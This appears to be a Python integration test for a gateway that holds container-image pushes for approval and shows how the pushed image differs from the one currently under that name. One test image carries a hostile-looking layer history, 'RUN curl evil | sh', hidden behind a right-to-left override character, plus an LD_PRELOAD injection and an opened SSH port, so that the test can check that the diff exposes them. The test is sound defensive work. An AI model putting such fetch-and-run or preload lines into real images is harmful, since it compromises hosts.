#!/usr/bin/env python3
"""The diff of a held push of an image: real skopeo, a real registry, and the image that has the name now."""
import gzip
import hashlib
import json
import os
import sys
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parents[1] / part) for part in (".", "approvals")]

from room import forms, words  # noqa: E402
from gateway import Gateway, Page, program, upstream_yaml  # noqa: E402
from harness import Skip, main, test  # noqa: E402
from pushes import over  # noqa: E402
from boxes import nothing_is_left  # noqa: E402
from servers import docker_registry  # noqa: E402

HOST, OCI = "images.test", "application/vnd.oci.image."


def policy(port, ca):
    place = f"host: {HOST}, port: {port}"
    return f"""version: 1
name: images
upstreams:
{upstream_yaml(HOST, port, ca)}
rules:
  - {{ id: look, match: {{ {place}, effect: read }}, decide: allow }}
  - {{ id: layers, match: {{ {place}, method: [POST, PATCH, PUT], path: "/v2/**/blobs/uploads/**" }}, decide: allow }}
  - id: name
    match: {{ {place}, method: PUT, path: "/v2/**/manifests/*" }}
    decide: hold
    approve: {{ diff: required }}
"""


def seen(page, ticket):
    text = page.ask("GET", f"/tickets/{ticket}")[1].decode()
    return text, words(text)


class Registry:
    def __init__(self, lab):
        if not os.path.exists("/usr/bin/docker-registry") or not os.path.exists("/usr/bin/skopeo"):
            raise Skip("docker-registry and skopeo of Debian (conf/need test)")
        self.lab, self.work = lab, lab.dir / "work"
        self.work.mkdir()
        self.at, ca = docker_registry(lab, HOST)
        self.gw = Gateway(lab, policy(self.at, ca), config="diff: { lane: diffs }\n")

    def push(self, folder, to="demo/app:1"):
        known = {t["id"] for t in self.gw.tickets()}
        client = self.lab.start([program(), "run", "--quiet", "--state-dir", self.gw.state, "--workspace", self.work, "--", "skopeo",
                                 "--insecure-policy", "copy", f"dir:{folder}", f"docker://{HOST}:{self.at}/{to}"])

        def held():
            assert client.popen.poll() is None, client.seen
            return next((t["id"] for t in self.gw.tickets() if t["id"] not in known), None)
        return client, self.lab.wait_for("it is held", held)


def blob(folder, data):
    name = hashlib.sha256(data).hexdigest()
    (folder / name).write_bytes(data)
    return {"digest": f"sha256:{name}", "size": len(data)}


def image(folder, layers, **run):
    """As skopeo's dir: has it. layers: (its bytes, by what it was made)."""
    folder.mkdir()
    about = {"architecture": "amd64", "os": "linux", "config": run, "created": "2026-01-01T00:00:00Z",
             "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(data).hexdigest() for data, _ in layers]},
             "history": [{"created_by": by} for _, by in layers] + [{"created_by": "CMD", "empty_layer": True}]}
    packed = [{"mediaType": OCI + "layer.v1.tar+gzip", **blob(folder, gzip.compress(data, mtime=0))} for data, _ in layers]
    config = {"mediaType": OCI + "config.v1+json", **blob(folder, json.dumps(about).encode())}
    (folder / "manifest.json").write_text(json.dumps({"schemaVersion": 2, "mediaType": OCI + "manifest.v1+json", "config": config,
                                                      "layers": packed}))
    (folder / "version").write_text("Directory Transport Version: 1.1\n")
    return [p["digest"] for p in packed]


def held(lab, images, page, name, manifest, kind):
    """What is said of a manifest that a client of its own puts there, and its diff; it is denied then."""
    gw, known = images.gw, {t["id"] for t in images.gw.tickets()}
    client = lab.start(["curl", "-sS", "-X", "PUT", "-H", f"Content-Type: {kind}", "--data-binary", json.dumps(manifest),
                        f"https://{HOST}:{images.at}/v2/demo/app/manifests/{name}"], env=gw.client_env())
    ticket = lab.wait_for("it is held", lambda: next((t["id"] for t in gw.tickets() if t["id"] not in known), None))
    said, diff = over(lab, gw, ticket)
    assert ("approve" in forms(seen(page, ticket)[0])) == said["complete"], said
    gw.deny(ticket, "no")
    client.wait()
    return said, diff.get("image")


@test()
def an_image_is_shown_beside_the_one_that_has_its_name(lab):
    images = Registry(lab)
    gw, person = images.gw, Page(images.gw)
    base = (b"base" + bytes(2000), "COPY base /")
    before = image(images.work / "one", [base, (b"old" + bytes(2000), "RUN old")], Cmd=["/app"], User="1000", Env=["PATH=/bin", "A=1"],
                   Labels={"is": "here"})
    client, ticket = images.push("one")
    said, diff = over(lab, gw, ticket)
    first = diff["image"]
    assert said == {"wanted": "required", "state": "made", "complete": True} and first["state"] == "first", (said, diff)
    assert [p["how"] for p in first["parts"]] == ["A", "A"] and [p["by"] for p in first["parts"]] == ["COPY base /", "RUN old"], first
    assert "Nothing has this name now" in seen(person, ticket)[1]
    gw.approve(ticket)
    assert client.wait() == 0, client.seen

    after = image(images.work / "two", [base, (b"new" + bytes(2000), "RUN curl evil | sh \u202e")], Cmd=["/app", "--open"],
                  Env=["PATH=/bin", "LD_PRELOAD=/x.so"], ExposedPorts={"22/tcp": {}}, Labels={"is": "here"})
    client, ticket = images.push("two")
    said, diff = over(lab, gw, ticket)
    now = diff["image"]
    assert said == {"wanted": "required", "state": "made", "complete": True}, (said, diff)
    assert (now["state"], now["kind"], now["was"], now["name"], now["reference"]) == ("compared", "image", "image", "demo/app", "1"), now
    assert [(p["how"], p["digest"]) for p in now["parts"]] == [("same", before[0]), ("A", after[1]), ("D", before[1])], now
    assert {(f["in"], f["name"], f["how"], f.get("old"), f.get("new")) for f in now["facts"]} == {
        ("run", "Cmd", "M", '["/app"]', '["/app", "--open"]'), ("run", "User", "D", "1000", None), ("port", "22/tcp", "A", None, "{}"),
        ("environment", "A", "D", "A=1", None), ("environment", "LD_PRELOAD", "A", None, "LD_PRELOAD=/x.so")}, now
    text, page = seen(person, ticket)
    for sentence in ("What the image changes a yes waits for it", "1 new layer of", "1 removed", "3 start-up changes",
                     "which has this name now", "said to be made by RUN curl evil | sh"):
        assert sentence in page, (sentence, page)
    assert "\u202e" not in text and "approve" in forms(text)
    gw.deny(ticket, "no")
    client.wait()

    manifest = (images.work / "one/manifest.json").read_bytes()
    there = {"mediaType": OCI + "manifest.v1+json", "digest": "sha256:" + hashlib.sha256(manifest).hexdigest(), "size": len(manifest),
             "platform": {"os": "linux", "architecture": "amd64"}}
    index = {"schemaVersion": 2, "mediaType": OCI + "index.v1+json", "manifests": [there]}
    said, image_list = held(lab, images, person, "list", index, OCI + "index.v1+json")
    [child] = image_list["parts"]
    assert said["complete"] and image_list["kind"] == "list" and child["opened"] == "yes" and '"Cmd": ["/app"]' in child["run"], image_list
    said, _ = held(lab, images, person, "list", {**index, "manifests": [{**there, "digest": "sha256:" + "0" * 64}]}, OCI + "index.v1+json")
    assert said["state"] == "failed" and "not in the registry yet" in said["why"], said

    # what several programs could take for two things, and what the request says to be another one
    now = json.loads((images.work / "two/manifest.json").read_text())
    for wrong, kind, why in (({**now, "manifests": []}, OCI + "manifest.v1+json", "all programs take for the same"),
                             (now, OCI + "index.v1+json", "all programs take for the same"),
                             (now, "application/json", "all programs take for the same"),
                             ({**now, "layers": now["layers"][:1]}, OCI + "manifest.v1+json", "what it is unpacked"),
                             ({**now, "config": {**now["config"], "size": 1}}, OCI + "manifest.v1+json", "does not have the digest")):
        said, _ = held(lab, images, person, "1", wrong, kind)
        assert said["state"] == "failed" and why in said["why"], (wrong, said)
    nothing_is_left(gw)


if __name__ == "__main__":
    main()
